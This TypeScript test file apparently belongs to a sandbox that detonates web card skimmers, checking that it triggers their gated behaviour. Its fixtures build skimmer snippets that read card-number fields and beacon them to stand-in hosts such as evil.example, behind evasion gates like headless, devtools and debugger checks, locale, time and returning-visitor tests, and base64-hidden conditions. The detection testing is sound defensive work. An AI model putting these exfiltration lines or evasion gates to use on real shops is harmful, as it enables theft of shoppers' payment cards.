import type { Detonation } from '@tillwatch/core/detection'
import { atDepth } from '@tillwatch/testbed/depth'
import { expect, it } from 'vitest'
import { together } from '../together.ts'
import { all, run, shareBrowser, withCard } from './run.ts'

shareBrowser()

/** Conditions, by a name that becomes a host, that hold in the first run already. */
const atOnce: Record<string, string> = {
  checkout: '/onepage|onestep|checkout/.test(location.href)',
  'tools-closed': 'outerWidth - innerWidth < 160 && outerHeight - innerHeight < 160 && outerWidth > 0',
  'no-robot': '!navigator.webdriver && !/headless/i.test(navigator.userAgent)',
  'from-the-shop': 'document.referrer.indexOf(location.hostname) > 0',
  shown: "!document.hidden && document.visibilityState === 'visible' && document.hasFocus()",
  'working-day': 'new Date().getHours() >= 9 && new Date().getHours() < 18 && new Date().getDay() % 6 > 0',
  'no-robot-by-its-parts':
    "navigator.plugins.length > 2 && navigator.plugins[0].name && typeof window.chrome === 'object' && navigator.languages.length > 0",
  'payment-step': "location.hash === '#payment' && /onepage/.test(location.pathname)",
  'no-debugger': '(() => { const before = performance.now(); debugger; return performance.now() - before < 50 })()',
}
/** Those that need another visitor. */
const forAnother: Record<string, string> = {
  'weekend-night': 'new Date().getHours() < 6 && new Date().getDay() % 6 === 0',
  phone: "/Mobile/.test(navigator.userAgent) && 'ontouchstart' in window && screen.width < 500",
  'from-a-search': '/google\\./.test(document.referrer)',
  'spanish-browser': "navigator.language.slice(0, 2) === 'es'",
  spanish: "document.documentElement.lang === 'es' && /pedido|pago/.test(location.href)",
}

const skimmer = (conditions: Record<string, string>) =>
  Object.entries(conditions)
    .map(([name, test]) => `if (${test}) { ${withCard(`navigator.sendBeacon('https://${name}.example/', card)`)} }`)
    .join('\n')
const senders = (told: Detonation) =>
  all(told, 'sends')
    .map(({ to }) => to.replace('.example', ''))
    .sort()

it('meets at once what skimmers ask for before they act', async () => {
  const told = await run(skimmer(atOnce))
  expect(senders(told)).toEqual(Object.keys(atOnce).sort())
  expect(all(told, 'sends').every(({ gate }) => gate === null)).toBe(true)
})

it('comes as another visitor where nothing was seen and the script asks who comes', async () => {
  const told = await run(skimmer(forAnother))
  expect(senders(told)).toEqual(Object.keys(forAnother).sort())
  expect(all(told, 'sends').every(({ gate }) => gate?.startsWith('language:es, profile:mobile'))).toBe(true)
})

it('comes back where nothing was seen and the script keeps something', async () => {
  const seen = '(() => { const seen = localStorage.seen; localStorage.seen = 1; return seen })()'
  const told = await run(skimmer({ again: seen }))
  expect(senders(told)).toEqual(['again'])
  expect(all(told, 'sends')[0]?.gate).toBe('visitor:returning')
})

it('waits long enough in the page’s own time for what is put off, polled and sent from time to time', async () => {
  const told = await run(`setTimeout(() => setInterval(() => {
    const card = document.querySelector('[name="payment[cc_number]"]').value
    if (card.length > 15) setTimeout(() => navigator.sendBeacon('https://evil.example/', card), 2500)
  }, 1000), 4000)`)
  expect(all(told, 'sends').length).toBe(1)
})

const cardNow = "document.getElementById('ccsave_cc_number').value"
/** What visitors do whom a script waits for. */
const patient: Record<string, string> = {
  'stay for minutes': `setTimeout(() => { ${withCard("navigator.sendBeacon('https://HOST/', card)")} }, 120_000)`,
  'stay for minutes by the clock': `const since = Date.now(); ${withCard("if (Date.now() - since > 240_000) navigator.sendBeacon('https://HOST/', card)")}`,
  'move the mouse a lot': `let moves = 0; addEventListener('mousemove', () => moves++); ${withCard("if (moves > 200) navigator.sendBeacon('https://HOST/', card)")}`,
  'turn to another tab': `document.addEventListener('visibilitychange', () => { const card = ${cardNow}; if (document.visibilityState === 'hidden' && card) navigator.sendBeacon('https://HOST/', card) })`,
  'come back from another tab': `let away = false, back = false
    document.addEventListener('visibilitychange', () => { if (document.hidden) away = true; else back = away })
    document.addEventListener('click', () => { const card = ${cardNow}; if (back && !document.hidden && card) navigator.sendBeacon('https://HOST/', card) })`,
}
it.each(together(patient))('sees in the first run what waits for visitors who %s', async (_names, waiting) => {
  const hostOf = (name: string) => `${name.replaceAll(' ', '-')}.example`
  const told = await run(waiting.map(([name, code]) => `{ ${code.replaceAll('HOST', hostOf(name))} }`).join('\n'))
  const atFirst = all(told, 'sends').filter(({ what, gate }) => what === 'card' && gate === null)
  expect([...new Set(atFirst.map(({ to }) => to))].sort()).toEqual(waiting.map(([name]) => hostOf(name)).sort())
})

/** What a script asks for, the condition, and the gate it is told with. How it leads to these runs is checked in plans.test.ts. */
const asking: [asks: string, condition: string, gate: unknown][] = [
  ['the path of a checkout as a whole', "location.pathname === '/checkout'", 'path:/checkout'],
  ['a path in hidden code', `eval(atob('${btoa("location.pathname === '/checkout'")}'))`, 'visitor:returning, path:/checkout'],
  ['a network', '/facebook\\.com/.test(document.referrer)', expect.stringContaining('referrer:facebook,')],
  ['a path that ends with it', '/\\/onepage\\/?$/.test(location.pathname)', 'path:/onepage'],
  ['a path in a list', "['/de/kasse', '/kasse'].includes(location.pathname)", 'path:/de/kasse'],
  ['a language', "navigator.language.startsWith('de')", expect.stringMatching(/^language:de, /)],
]
it.each(atDepth(asking.slice(0, 3), asking))('comes by %s where the script asks for it', async (_what, condition, gate) => {
  const told = await run(withCard(`if (${condition}) navigator.sendBeacon('https://evil.example/', card)`))
  expect(all(told, 'sends').map(({ what, gate }) => [what, gate])).toEqual([['card', gate]])
})

it('gives a script the fields and the button that it looks for and the shop has not', async () => {
  const told = await run(`
    const button = document.querySelector('#my-payment-button')
    button && button.addEventListener('mousedown', () => {
      navigator.sendBeacon('https://evil.example/', document.getElementById('acme_cc_number').value)
    })
    document.getElementById('acme_cc_number')`)
  expect(all(told, 'sends').map(({ what, gate }) => [what, gate])).toEqual([['card', 'parts:asked']])
})

it('spares a script further runs that asks for nothing they could give', async () => {
  const told = await run('document.title += "!"')
  expect(told.gates.every((gate) => !/^(language:es|visitor|parts)/.test(gate))).toBe(true)
})
